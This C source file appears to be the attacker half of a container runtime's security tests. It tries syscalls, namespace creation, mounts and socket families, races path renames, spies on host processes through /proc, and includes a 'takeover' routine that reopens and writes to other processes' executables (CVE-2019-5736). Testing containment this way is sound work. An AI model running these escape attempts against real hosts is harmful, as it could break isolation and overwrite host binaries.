// SPDX-License-Identifier: Apache-2.0
/*
 * What an attacker in a container tries. Linked statically, so that it runs in any root file
 * system. Prints what came of it; judging is the test's work.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/keyctl.h>
#include <linux/sched.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define X32_BIT 0x40000000L

static const char *outcome(long result)
{
	static char number[32];
	const char *name;

	if (result >= 0)
		return "ok";
	name = strerrorname_np(errno);
	if (name)
		return name;
	snprintf(number, sizeof(number), "errno-%d", errno);
	return number;
}

/* --- one dangerous call, in a child that may die of it --- */

struct shared {
	long result;
	int errnum;
	int done;
};

typedef long (*attempt)(const long *arguments);

/* run @try in a child; prints "NAME OUTCOME", or the signal that killed it */
static void try_apart(const char *name, attempt try, const long *arguments)
{
	volatile struct shared *shared = mmap(NULL, sizeof(*shared), PROT_READ | PROT_WRITE,
				     MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	pid_t self, child = fork();
	int status;

	if (child == 0) {
		self = getpid();
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		signal(SIGALRM, SIG_DFL);
		alarm(1); /* what blocks is not refused */
		shared->result = try(arguments);
		if (getpid() != self || syscall(SYS_gettid) != self)
			_exit(0); /* a child that the call itself has made */
		shared->errnum = errno;
		shared->done = 1;
		_exit(0);
	}
	while (waitpid(child, &status, 0) < 0 && errno == EINTR)
		;
	if (shared->done) {
		errno = shared->errnum;
		printf("%s %s\n", name, outcome(shared->result));
	} else if (WIFSIGNALED(status)) {
		printf("%s SIG%s\n", name, sigabbrev_np(WTERMSIG(status)));
	} else {
		printf("%s exit\n", name);
	}
	munmap((void *)shared, sizeof(*shared));
}

static long try_raw(const long *a)
{
	return syscall(a[0], a[1], a[2], a[3], a[4], a[5], a[6]);
}

static void try_number(long number, long argument)
{
	const long arguments[] = { number,   argument, argument, argument,
				   argument, argument, argument };
	char name[32];

	snprintf(name, sizeof(name), "%ld", number);
	try_apart(name, try_raw, arguments);
}

/*
 * syscalls FIRST LAST: every number, with arguments that are wrong for any of them: what the kernel
 * does is then told from what a filter does by the error.
 */
static int syscalls(long first, long last, long bit)
{
	for (long number = first; number <= last; number++)
		try_number(number | bit, -1);
	return 0;
}

static long try_int80(const long *a)
{
#ifdef __x86_64__
	long result;

	__asm__ volatile("int $0x80"
			 : "=a"(result)
			 : "a"(a[0]), "b"(a[1]), "c"(a[2]), "d"(a[3])
			 : "memory", "r8", "r9", "r10", "r11");
	result = (int)result;
	if (result < 0 && result > -4096) {
		errno = (int)-result;
		return -1;
	}
	return result;
#else
	(void)a;
	errno = ENOSYS;
	return -1;
#endif
}

/* i386: the 32-bit call gate: getpid, and socketcall(SYS_SOCKET, AF_ALG), which no filter can read */
static int i386(void)
{
	unsigned *call = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
			      MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	const long get_pid[] = { 20, 0, 0, 0 };
	const long socket_call[] = { 102, 1, (long)call, 0 };

	call[0] = 38; /* AF_ALG */
	call[1] = SOCK_SEQPACKET;
	call[2] = 0;
	try_apart("i386-getpid", try_int80, get_pid);
	try_apart("i386-socketcall-alg", try_int80, socket_call);
	return 0;
}

static long try_socket(const long *a)
{
	return socket((int)a[0], (int)a[1], (int)a[2]);
}

/* sockets: each family with the types it might have; "ok" if any of them works */
static int sockets(void)
{
	static const int types[] = { SOCK_STREAM, SOCK_DGRAM, SOCK_SEQPACKET, SOCK_RAW };
	char name[32];

	for (int family = 0; family < 50; family++) {
		int best = EAFNOSUPPORT;

		for (size_t i = 0; i < sizeof(types) / sizeof(types[0]); i++) {
			int fd = socket(family, types[i], 0);

			if (fd >= 0) {
				close(fd);
				best = 0;
			} else if (best == EAFNOSUPPORT) {
				best = errno;
			}
		}
		errno = best;
		printf("family-%d %s\n", family, outcome(best ? -1 : 0));
	}
	for (int protocol = 0; protocol < 23; protocol++) {
		const long arguments[] = { AF_NETLINK, SOCK_RAW, protocol };

		snprintf(name, sizeof(name), "netlink-%d", protocol);
		try_apart(name, try_socket, arguments);
	}
	{
		const long raw[] = { AF_INET, SOCK_RAW, 1 }, packet[] = { AF_PACKET, SOCK_RAW, 0 };

		try_apart("raw-icmp", try_socket, raw);
		try_apart("packet", try_socket, packet);
	}
	return 0;
}

static long try_clone3(const long *a)
{
	struct clone_args args = { .flags = (unsigned long)a[0], .exit_signal = SIGCHLD };

	return syscall(SYS_clone3, &args, sizeof(args));
}

static long try_clone(const long *a)
{
	return syscall(SYS_clone, a[0] | SIGCHLD, 0, 0, 0, 0);
}

static long try_unshare(const long *a)
{
	return unshare((int)a[0]);
}

/* namespaces: each kind, in each of the three ways */
static int namespaces(void)
{
	static const struct {
		const char *name;
		long flag;
	} kinds[] = {
		{ "user", CLONE_NEWUSER }, { "mnt", CLONE_NEWNS },   { "net", CLONE_NEWNET },
		{ "pid", CLONE_NEWPID },   { "ipc", CLONE_NEWIPC },  { "uts", CLONE_NEWUTS },
		{ "cgroup", CLONE_NEWCGROUP }, { "time", CLONE_NEWTIME },
	};
	char name[64];

	for (size_t i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++) {
		snprintf(name, sizeof(name), "unshare-%s", kinds[i].name);
		try_apart(name, try_unshare, &kinds[i].flag);
		snprintf(name, sizeof(name), "clone3-%s", kinds[i].name);
		try_apart(name, try_clone3, &kinds[i].flag);
		if (kinds[i].flag == CLONE_NEWTIME)
			continue; /* clone(2) has no such flag */
		snprintf(name, sizeof(name), "clone-%s", kinds[i].name);
		try_apart(name, try_clone, &kinds[i].flag);
	}
	return 0;
}

/* calls: those that attacks begin with, with arguments as right as they can be without harm */
static long call_mount(const long *a)
{
	(void)a;
	return mount("tmpfs", "/tmp", "tmpfs", 0, NULL);
}

static long call_remount(const long *a)
{
	(void)a;
	return mount(NULL, "/sys", NULL, MS_REMOUNT | MS_BIND, NULL);
}

static long call_mount_proc(const long *a)
{
	(void)a;
	return mount("proc", "/mnt", "proc", 0, NULL);
}

static long call_mount_cgroup(const long *a)
{
	(void)a;
	return mount("cgroup", "/mnt", "cgroup", 0, "memory");
}

static long call_umount(const long *a)
{
	(void)a;
	return umount2("/proc/kcore", MNT_DETACH);
}

static long call_umount_sys(const long *a)
{
	(void)a;
	return umount2("/sys", MNT_DETACH);
}

static long call_fsopen(const long *a)
{
	(void)a;
	return syscall(SYS_fsopen, "tmpfs", 0);
}

static long call_open_tree(const long *a)
{
	(void)a;
	return syscall(SYS_open_tree, AT_FDCWD, "/", OPEN_TREE_CLONE);
}

static long call_mount_setattr(const long *a)
{
	struct mount_attr attributes = { .attr_clr = MOUNT_ATTR_RDONLY };

	(void)a;
	return syscall(SYS_mount_setattr, AT_FDCWD, "/sys", 0, &attributes, sizeof(attributes));
}

static long call_pivot_root(const long *a)
{
	(void)a;
	return syscall(SYS_pivot_root, "/tmp", "/tmp");
}

static long call_setns(const long *a)
{
	int fd = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);

	(void)a;
	return setns(fd, CLONE_NEWNS);
}

static long call_keyctl(const long *a)
{
	(void)a;
	return syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 0);
}

static long call_add_key(const long *a)
{
	(void)a;
	return syscall(SYS_add_key, "user", "attack", "x", 1, KEY_SPEC_PROCESS_KEYRING);
}

static long call_request_key(const long *a)
{
	(void)a;
	return syscall(SYS_request_key, "user", "attack", NULL, KEY_SPEC_PROCESS_KEYRING);
}

static long call_bpf(const long *a)
{
	char attributes[128] = { 0 };

	(void)a;
	return syscall(SYS_bpf, 0, attributes, sizeof(attributes));
}

static long call_io_uring(const long *a)
{
	char parameters[256] = { 0 };

	(void)a;
	return syscall(SYS_io_uring_setup, 1, parameters);
}

static long call_userfaultfd(const long *a)
{
	(void)a;
	return syscall(SYS_userfaultfd, O_CLOEXEC | 1);
}

static long call_perf(const long *a)
{
	char attributes[128] = { 0 };

	(void)a;
	attributes[4] = 112;
	return syscall(SYS_perf_event_open, attributes, 0, -1, -1, 0);
}

static long call_open_by_handle(const long *a)
{
	char handle[sizeof(int) * 2 + MAX_HANDLE_SZ] = { 8, 0, 0, 0, 1 };
	int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	(void)a;
	handle[8] = 2; /* the root inode of ext4: the "shocker" exploit of 2014 */
	return syscall(SYS_open_by_handle_at, root, handle, O_RDONLY);
}

static long call_vmsplice(const long *a)
{
	int ends[2];
	char byte = 'x';
	struct iovec vector = { &byte, 1 };

	(void)a;
	if (pipe(ends) < 0)
		return 0;
	return syscall(SYS_vmsplice, ends[1], &vector, 1, 0);
}

static long call_syslog(const long *a)
{
	(void)a;
	return syscall(SYS_syslog, 10, NULL, 0); /* the size of the host's log */
}

static long call_modify_ldt(const long *a)
{
	char table[64];

	(void)a;
#ifdef SYS_modify_ldt
	return syscall(SYS_modify_ldt, 0, table, sizeof(table));
#else
	(void)table;
	errno = ENOSYS;
	return -1;
#endif
}

static long call_kexec(const long *a)
{
	(void)a;
	return syscall(SYS_kexec_load, 0, 0, NULL, 0);
}

static long call_kcmp(const long *a)
{
	(void)a;
	return syscall(SYS_kcmp, getpid(), getpid(), 0, 0, 0);
}

static long call_settime(const long *a)
{
	struct timespec now;

	(void)a;
	clock_gettime(CLOCK_REALTIME, &now);
	return clock_settime(CLOCK_REALTIME, &now);
}

static long call_mknod(const long *a)
{
	(void)a;
	return mknod("/tmp/block", S_IFBLK | 0600, (dev_t)((8 << 8) | 0));
}

static long call_chroot(const long *a)
{
	(void)a;
	return chroot("/tmp");
}

static long call_reboot(const long *a)
{
	(void)a;
	return syscall(SYS_reboot, 0, 0, 0, NULL); /* with wrong magic numbers: EINVAL if let in */
}

static long call_swapon(const long *a)
{
	(void)a;
	return syscall(SYS_swapon, "/no-such-file", 0);
}

static long call_quotactl(const long *a)
{
	(void)a;
	return syscall(SYS_quotactl, -1, NULL, 0, NULL);
}

static long call_fanotify(const long *a)
{
	(void)a;
	return syscall(SYS_fanotify_init, 0, O_RDONLY);
}

static long call_init_module(const long *a)
{
	(void)a;
	return syscall(SYS_init_module, NULL, 0, "");
}

static long call_tiocsti(const long *a)
{
	char byte = 'x';

	return syscall(SYS_ioctl, 0, (unsigned long)a[0], &byte);
}

/* root of the host itself would do to the host what is tried here */
static int is_root_of_host(void)
{
	unsigned inside = 1, outside = 1, count = 0;
	FILE *map = fopen("/proc/self/uid_map", "r");

	if (map && fscanf(map, "%u %u %u", &inside, &outside, &count) != 3)
		count = 0;
	if (map)
		fclose(map);
	return geteuid() == 0 && (!map || (inside == 0 && outside == 0 && count == 4294967295U));
}

static int calls(void)
{
	static const struct {
		const char *name;
		attempt try;
		long argument;
	} all[] = {
		{ "mount", call_mount, 0 },
		{ "remount", call_remount, 0 },
		{ "mount-proc", call_mount_proc, 0 },
		{ "mount-cgroup", call_mount_cgroup, 0 },
		{ "umount", call_umount, 0 },
		{ "umount-sys", call_umount_sys, 0 },
		{ "fsopen", call_fsopen, 0 },
		{ "open_tree", call_open_tree, 0 },
		{ "mount_setattr", call_mount_setattr, 0 },
		{ "pivot_root", call_pivot_root, 0 },
		{ "setns", call_setns, 0 },
		{ "keyctl", call_keyctl, 0 },
		{ "add_key", call_add_key, 0 },
		{ "request_key", call_request_key, 0 },
		{ "bpf", call_bpf, 0 },
		{ "io_uring_setup", call_io_uring, 0 },
		{ "userfaultfd", call_userfaultfd, 0 },
		{ "perf_event_open", call_perf, 0 },
		{ "open_by_handle_at", call_open_by_handle, 0 },
		{ "vmsplice", call_vmsplice, 0 },
		{ "syslog", call_syslog, 0 },
		{ "modify_ldt", call_modify_ldt, 0 },
		{ "kexec_load", call_kexec, 0 },
		{ "kcmp", call_kcmp, 0 },
		{ "clock_settime", call_settime, 0 },
		{ "mknod", call_mknod, 0 },
		{ "chroot", call_chroot, 0 },
		{ "reboot", call_reboot, 0 },
		{ "swapon", call_swapon, 0 },
		{ "quotactl", call_quotactl, 0 },
		{ "fanotify_init", call_fanotify, 0 },
		{ "init_module", call_init_module, 0 },
		{ "tiocsti", call_tiocsti, TIOCSTI },
		{ "tiocsti-high", call_tiocsti, 0x100000000L | TIOCSTI },
		{ "tioclinux", call_tiocsti, TIOCLINUX },
	};

	if (is_root_of_host()) {
		fprintf(stderr, "attack: not as root of the host\n");
		return 1;
	}
	for (size_t i = 0; i < sizeof(all) / sizeof(all[0]); i++)
		try_apart(all[i].name, all[i].try, &all[i].argument);
	return 0;
}

/* --- races --- */

/* exchange A B: swap two names for ever */
static _Noreturn void exchange(const char *one, const char *other)
{
	puts("ready");
	for (;;)
		renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE);
}

/* appear DIRECTORY LINK-TARGET: a name that is a directory, then nothing, then a link, for ever */
static _Noreturn void appear(const char *path, const char *target)
{
	puts("ready");
	for (;;) {
		mkdir(path, 0777);
		/* whatever a runtime has put in there */
		char inner[PATH_MAX];

		snprintf(inner, sizeof(inner), "%s/mp", path);
		rmdir(inner);
		rmdir(path);
		if (symlink(target, path) == 0)
			unlink(path);
	}
}

/* --- other processes --- */

/* how many names on the host can be seen through a process that is still being set up */
static void spy_on(const char *pid, const char *marker)
{
	static const char *const links[] = { "root", "cwd", "exe" };
	char path[PATH_MAX], target[PATH_MAX];
	DIR *directory;
	struct dirent *entry;
	ssize_t length;

	for (size_t i = 0; i < sizeof(links) / sizeof(links[0]); i++) {
		snprintf(path, sizeof(path), "/proc/%s/%s/%s", pid, links[i], i < 2 ? marker : "");
		if (i == 2)
			path[strlen(path) - 1] = '\0';
		if (i < 2 && access(path, F_OK) == 0)
			printf("reached %s\n", path);
		length = i == 2 ? readlink(path, target, sizeof(target) - 1) : -1;
		if (length > 0) {
			target[length] = '\0';
			if (strstr(target, "nsrun"))
				printf("reached %s -> %s\n", path, target);
		}
	}
	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	directory = opendir(path);
	while (directory && (entry = readdir(directory))) {
		int fd;

		if (entry->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "/proc/%s/fd/%.20s/%s", pid, entry->d_name, marker);
		if (access(path, F_OK) == 0)
			printf("reached %s\n", path);
		snprintf(path, sizeof(path), "/proc/%s/fd/%.20s/../%s", pid, entry->d_name, marker);
		fd = open(path, O_PATH | O_CLOEXEC);
		if (fd >= 0) {
			printf("reached %s\n", path);
			close(fd);
		}
	}
	if (directory)
		closedir(directory);
}

/* spy MARKER: look for ever at every process that comes; MARKER is a path that only the host has */
static _Noreturn void spy(const char *marker)
{
	puts("ready");
	for (;;) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (proc && (entry = readdir(proc))) {
			pid_t pid = (pid_t)strtol(entry->d_name, NULL, 10);

			if (pid <= 1 || pid == getpid())
				continue;
			spy_on(entry->d_name, marker);
		}
		if (proc)
			closedir(proc);
	}
}

/* executable PID: reopen what a process runs, first for reading, then for writing (CVE-2019-5736) */
static int executable(const char *pid)
{
	char path[64];
	int fd, again;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	printf("read %s\n", outcome(fd));
	if (fd < 0)
		return 0;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	again = open(path, O_WRONLY | O_CLOEXEC);
	printf("write %s\n", outcome(again));
	if (again >= 0)
		printf("written %s\n", outcome(write(again, "#!/attack\n", 10)));
	return 0;
}

/*
 * takeover: hold on to the program of every process that comes and that is none of this root file
 * system's, and write to it as soon as nobody runs it any more
 */
static int takeover(void)
{
	struct stat own, other;
	char path[64];
	int fd = -1, again;
	long seen = 0;

	if (stat("/proc/self/exe", &own) < 0)
		return 1;
	puts("ready");
	while (fd < 0) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		if (!proc)
			continue;
		while (fd < 0 && (entry = readdir(proc))) {
			long pid = strtol(entry->d_name, NULL, 10);

			if (pid <= 1 || pid == getpid())
				continue;
			if (pid != seen)
				printf("saw %ld\n", seen = pid);
			snprintf(path, sizeof(path), "/proc/%ld/exe", pid);
			fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd >= 0 && fstat(fd, &other) == 0 && other.st_ino == own.st_ino) {
				close(fd);
				fd = -1;
			}
		}
		closedir(proc);
	}
	puts("read ok");
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; i < 3000; i++) {
		const struct timespec pause_ms = { .tv_nsec = 1000000 };

		again = open(path, O_WRONLY | O_CLOEXEC);
		if (again >= 0) {
			printf("written %s\n", outcome(write(again, "#!/attack\n", 10)));
			return 0;
		}
		nanosleep(&pause_ms, NULL);
	}
	printf("gave up %s\n", outcome(-1));
	return 0;
}

/* listen NAME / connect NAME: abstract sockets */
static int abstract(const char *name, int server)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	socklen_t length = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name));
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	snprintf(address.sun_path + 1, sizeof(address.sun_path) - 1, "%s", name);
	if (!server) {
		printf("connect %s\n", outcome(connect(fd, (struct sockaddr *)&address, length)));
		return 0;
	}
	if (bind(fd, (struct sockaddr *)&address, length) < 0 || listen(fd, 1) < 0)
		return 1;
	puts("ready");
	pause();
	return 0;
}

/* read-key SERIAL: a key of the caller's */
static int read_key(long serial)
{
	char value[256] = "";
	long length = syscall(SYS_keyctl, KEYCTL_READ, serial, value, sizeof(value) - 1, 0);

	printf("key %s %s\n", outcome(length), length > 0 ? value : "");
	return 0;
}

/* without NUMBER COMMAND...: run it where that system call is missing */
static int without(long number, char **command)
{
	struct sock_filter program[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, (unsigned)number, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | ENOSYS),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog filter = { sizeof(program) / sizeof(program[0]), program };

	/* with CAP_SYS_ADMIN no_new_privs is not needed, and setuid helpers keep working */
	if (prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &filter) < 0 &&
	    (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0 ||
	     prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &filter) < 0)) {
		perror("seccomp");
		return 1;
	}
	execvp(command[0], command);
	perror(command[0]);
	return 127;
}

/* with-fds COUNT DIRECTORY COMMAND...: run it with so many descriptors of all kinds inherited */
static int with_fds(int count, const char *directory, char **command)
{
	for (int i = 0; i < count; i++) {
		int fd, pair[2];

		switch (i % 4) {
		case 0: fd = open(directory, O_RDONLY | O_DIRECTORY); break;
		case 1: fd = memfd_create("inherited", 0); break;
		case 2: fd = socketpair(AF_UNIX, SOCK_STREAM, 0, pair) < 0 ? -1 : pair[0]; break;
		default: fd = open(directory, O_PATH | O_DIRECTORY); break;
		}
		if (fd < 0) {
			perror("with-fds");
			return 1;
		}
	}
	execvp(command[0], command);
	perror(command[0]);
	return 127;
}

/* ignore COMMAND...: run it in the worst process state that a caller can hand down */
static int ignore(char **command)
{
	sigset_t all;
	cpu_set_t first;
	struct rlimit core = { RLIM_INFINITY, RLIM_INFINITY };

	for (int number = 1; number < NSIG; number++)
		signal(number, SIG_IGN);
	sigfillset(&all);
	sigprocmask(SIG_BLOCK, &all, NULL);
	umask(0);
	CPU_ZERO(&first);
	CPU_SET(0, &first);
	sched_setaffinity(0, sizeof(first), &first);
	syscall(SYS_personality, 0x0040000); /* ADDR_NO_RANDOMIZE */
	setrlimit(RLIMIT_CORE, &core);
	execvp(command[0], command);
	perror(command[0]);
	return 127;
}

/* crash: a death that dumps core */
static int crash(void)
{
	raise(SIGSEGV);
	return 0;
}

/* suid: who is this process? Meant to be a setuid program. */
static int print_ids(void)
{
	printf("ruid %d euid %d\n", (int)getuid(), (int)geteuid());
	return 0;
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (strcmp(what, "syscalls") == 0 && argc == 4)
		return syscalls(atol(argv[2]), atol(argv[3]), 0);
	if (strcmp(what, "x32") == 0 && argc == 4)
		return syscalls(atol(argv[2]), atol(argv[3]), X32_BIT);
	if (strcmp(what, "i386") == 0)
		return i386();
	if (strcmp(what, "sockets") == 0)
		return sockets();
	if (strcmp(what, "namespaces") == 0)
		return namespaces();
	if (strcmp(what, "calls") == 0)
		return calls();
	if (strcmp(what, "exchange") == 0 && argc == 4)
		exchange(argv[2], argv[3]);
	if (strcmp(what, "appear") == 0 && argc == 4)
		appear(argv[2], argv[3]);
	if (strcmp(what, "spy") == 0 && argc == 3)
		spy(argv[2]);
	if (strcmp(what, "executable") == 0 && argc == 3)
		return executable(argv[2]);
	if (strcmp(what, "takeover") == 0)
		return takeover();
	if (strcmp(what, "listen") == 0 && argc == 3)
		return abstract(argv[2], 1);
	if (strcmp(what, "connect") == 0 && argc == 3)
		return abstract(argv[2], 0);
	if (strcmp(what, "read-key") == 0 && argc == 3)
		return read_key(atol(argv[2]));
	if (strcmp(what, "without") == 0 && argc > 3)
		return without(atol(argv[2]), argv + 3);
	if (strcmp(what, "with-fds") == 0 && argc > 4)
		return with_fds(atoi(argv[2]), argv[3], argv + 4);
	if (strcmp(what, "ignore") == 0 && argc > 2)
		return ignore(argv + 2);
	if (strcmp(what, "crash") == 0)
		return crash();
	if (strcmp(what, "ids") == 0)
		return print_ids();
	fprintf(stderr, "attack: unknown word '%s'\n", what);
	return 64;
}
